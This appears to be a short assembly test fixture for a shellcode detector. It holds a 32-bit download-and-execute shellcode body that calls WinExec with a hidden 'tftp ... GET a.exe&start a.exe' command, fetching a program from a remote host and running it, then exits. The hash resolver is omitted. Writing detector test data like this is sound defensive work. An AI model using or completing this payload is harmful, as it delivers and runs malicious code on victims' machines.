; A download body: WinExec of a tftp command line carried as text (the
; jmp/call/pop form puts the string's address on the stack), then
; ExitProcess. Imports by ror13 hash; the resolver is left out.
; Test data for botscope's shellcode finder: assembled and decoded, never
; executed.
bits 32
    cld
    jmp short command
run:
    push byte 0                 ; SW_HIDE
    push dword 0x0e8afe98       ; WinExec (the command's address is below)
    call ebp
    push byte 0
    push dword 0x73e2d87e       ; ExitProcess
    call ebp
command:
    call run
    db "cmd /c tftp -i 10.0.0.1 GET a.exe&start a.exe", 0
